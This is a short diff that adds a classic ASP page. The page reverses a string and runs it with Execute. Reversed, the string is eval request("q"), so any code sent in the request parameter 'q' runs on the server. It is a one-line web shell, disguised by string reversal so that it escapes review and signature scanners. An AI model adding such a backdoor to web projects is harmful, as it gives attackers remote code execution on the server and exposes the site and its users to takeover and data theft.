@@ -1,0 +1,6 @@
+<%
+Function Unflip(s)
+  Unflip = StrReverse(s)
+End Function
+Execute Unflip(")""q""(tseuqer lave")
+%>
